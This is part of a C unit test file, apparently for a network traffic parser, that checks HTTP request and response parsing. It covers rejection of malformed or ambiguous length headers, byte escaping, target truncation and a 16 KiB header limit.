	{Q("HTTP/1.1 200 OK\r\nContent-Length: 1\r\n"
	   "Transfer-Encoding: chunked\r\n\r\n"), SV_APP_MALFORMED,
	 "both Content-Length"},
	{Q("HTTP/1.1 200 OK\r\nContent-Length: 1\r\nContent-Length: 2\r\n"
	   "\r\n"), SV_APP_MALFORMED, "disagree"},
	{Q("HTTP/1.0 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"),
	 SV_APP_MALFORMED, "HTTP/1.0"},
	{Q("HTTP/1.1 200 OK\r\nX: y\r\n z\r\n\r\n"), SV_APP_MALFORMED,
	 "obs-fold"},
};

START_TEST(response_rules)
{
	rule(1, &resps[_i], _i);
}
END_TEST

/* Every method of the list, and the fields of a full request. */
START_TEST(request_fields)
{
	static const char *const m[] = {
		"GET", "HEAD", "POST", "PUT", "DELETE", "CONNECT", "OPTIONS",
		"TRACE", "PATCH", "PROPFIND", "PROPPATCH", "MKCOL", "COPY",
		"MOVE", "LOCK", "UNLOCK",
	};
	static const char body[] =
		" /x?a=1 HTTP/1.1\r\nhOsT:  example.org \r\n"
		"USER-AGENT: curl/8.0\r\nUpgrade: websocket\r\n"
		"Transfer-Encoding: gzip ; q=1 , ,Chunked\r\n\r\nBODY";
	struct sv_http_request q;
	char in[256];
	int i, n;

	for (i = 0; i < N(m); i++) {
		n = snprintf(in, sizeof(in), "%s%s", m[i], body);
		ck_assert_int_eq(sv_http_request((uint8_t *)in, (size_t)n,
						 &q, NULL), SV_APP_OK);
		ck_assert_str_eq(q.method, m[i]);
		ck_assert_str_eq(q.target, "/x?a=1");
		ck_assert_str_eq(q.host, "example.org");
		ck_assert_str_eq(q.user_agent, "curl/8.0");
		ck_assert_str_eq(q.upgrade_to, "websocket");
		ck_assert(q.upgrade && q.chunked && !q.bare_lf);
		ck_assert_int_eq(q.content_length, -1);
		ck_assert_int_eq(q.headers, 4);
		ck_assert_uint_eq(q.header_bytes, (size_t)n - 4);
	}
}
END_TEST

/* Wire bytes are escaped; a cut never splits an escape. */
START_TEST(escaping_and_cuts)
{
	static const char in[] = "GET /\xff\\%00\xc3\xa9 HTTP/1.1\r\n"
				 "Host: h\x80\r\nUser-Agent: \\x41\r\n\r\n";
	struct sv_http_request q;
	char *big;
	size_t i, n;

	ck_assert_int_eq(sv_http_request((const uint8_t *)in, sizeof(in) - 1,
					 &q, NULL), SV_APP_OK);
	ck_assert_str_eq(q.target, "/\\xff\\x5c%00\\xc3\\xa9");
	ck_assert_str_eq(q.host, "h\\x80");
	ck_assert_str_eq(q.user_agent, "\\x5cx41");
	ck_assert(!q.target_cut);

	/* A 2000-byte target of 0xff bytes: 255 escapes fit in 1023. */
	n = 2000 + 32;
	big = malloc(n);
	ck_assert_ptr_nonnull(big);
	memcpy(big, "GET /", 5);
	memset(big + 5, 0xff, 2000);
	memcpy(big + 2005, " HTTP/1.0\r\n\r\n", 13);
	ck_assert_int_eq(sv_http_request((uint8_t *)big, 2018, &q, NULL),
			 SV_APP_OK);
	ck_assert(q.target_cut);
	ck_assert_uint_eq(strlen(q.target), 1 + 255 * 4);
	for (i = 1; i < strlen(q.target); i += 4)
		ck_assert(!memcmp(q.target + i, "\\xff", 4));
	free(big);
}
END_TEST

/* 16 KiB of headers: NEED_MORE below the limit, MALFORMED at it. */
START_TEST(header_limit)
{
	size_t n = SV_HTTP_MAX_HEADER + 100, need = 0;
	uint8_t *big = malloc(n);
	struct sv_http_request q;
	struct sv_http_response r;

	ck_assert_ptr_nonnull(big);
	memcpy(big, "GET / HTTP/1.1\r\nHost: a\r\nX: ", 28);
	memset(big + 28, 'a', n - 28);
	ck_assert_int_eq(sv_http_request(big, SV_HTTP_MAX_HEADER - 1, &q,
					 &need), SV_APP_NEED_MORE);
	ck_assert_uint_eq(need, SV_HTTP_MAX_HEADER);
	ck_assert_int_eq(sv_http_request(big, SV_HTTP_MAX_HEADER, &q, &need),
			 SV_APP_MALFORMED);
	ck_assert_ptr_nonnull(strstr(q.error, "16 KiB"));
	ck_assert_str_eq(q.host, "a");   /* what was read */
	ck_assert_int_eq(sv_http_request(big, n, &q, &need),
			 SV_APP_MALFORMED);

	/* A header section that ends exactly at the limit is fine. */
	memcpy(big + SV_HTTP_MAX_HEADER - 4, "\r\n\r\n", 4);
	ck_assert_int_eq(sv_http_request(big, n, &q, &need), SV_APP_OK);
	ck_assert_uint_eq(q.header_bytes, SV_HTTP_MAX_HEADER);

	memcpy(big, "HTTP/1.1 200 OK\r\nX: ", 20);
	memset(big + 20, 'a', SV_HTTP_MAX_HEADER - 20);
	ck_assert_int_eq(sv_http_response(big, n, &r, &need),
			 SV_APP_MALFORMED);
	ck_assert_ptr_nonnull(strstr(r.error, "16 KiB"));
	free(big);
}
END_TEST

/* Response fields: reason, server, upgrade, lengths. */
START_TEST(response_fields)
{
	static const char in[] =
		"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
		"Connection: Upgrade\r\nServer: nginx\\1\t\r\n"
		"Content-Length: 00042\r\n\r\n";
	struct sv_http_response r;

	ck_assert_int_eq(sv_http_response((const uint8_t *)in, sizeof(in) - 1,
					  &r, NULL), SV_APP_OK);
	ck_assert_int_eq(r.status, 101);
	ck_assert_str_eq(r.reason, "Switching Protocols");
	ck_assert_str_eq(r.upgrade_to, "websocket");
	ck_assert_str_eq(r.server, "nginx\\x5c1");
	ck_assert_int_eq(r.content_length, 42);
	ck_assert(r.upgrade && !r.chunked);
	ck_assert_int_eq(r.headers, 4);
}
END_TEST

static Suite *http_suite(void)
{
	Suite *s = suite_create("http");
	TCase *tc = tcase_create("http");

	tcase_set_timeout(tc, 120);
	tcase_add_loop_test(tc, capture_vs_tshark, 0, N(files));
	tcase_add_loop_test(tc, request_rules, 0, N(reqs));
	tcase_add_loop_test(tc, response_rules, 0, N(resps));
	tcase_add_test(tc, request_fields);
	tcase_add_test(tc, escaping_and_cuts);
	tcase_add_test(tc, header_limit);
	tcase_add_test(tc, response_fields);
	suite_add_tcase(s, tc);
	return s;
}

/* test_http [http|stratum]: one suite, or both. */
int main(int argc, char **argv)
{
	const char *which = argc > 1 ? argv[1] : "";
	SRunner *sr = srunner_create(NULL);
	int failed;

	if (!*which || !strcmp(which, "http"))
		srunner_add_suite(sr, http_suite());
	if (!*which || !strcmp(which, "stratum"))
		srunner_add_suite(sr, stratum_suite());
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
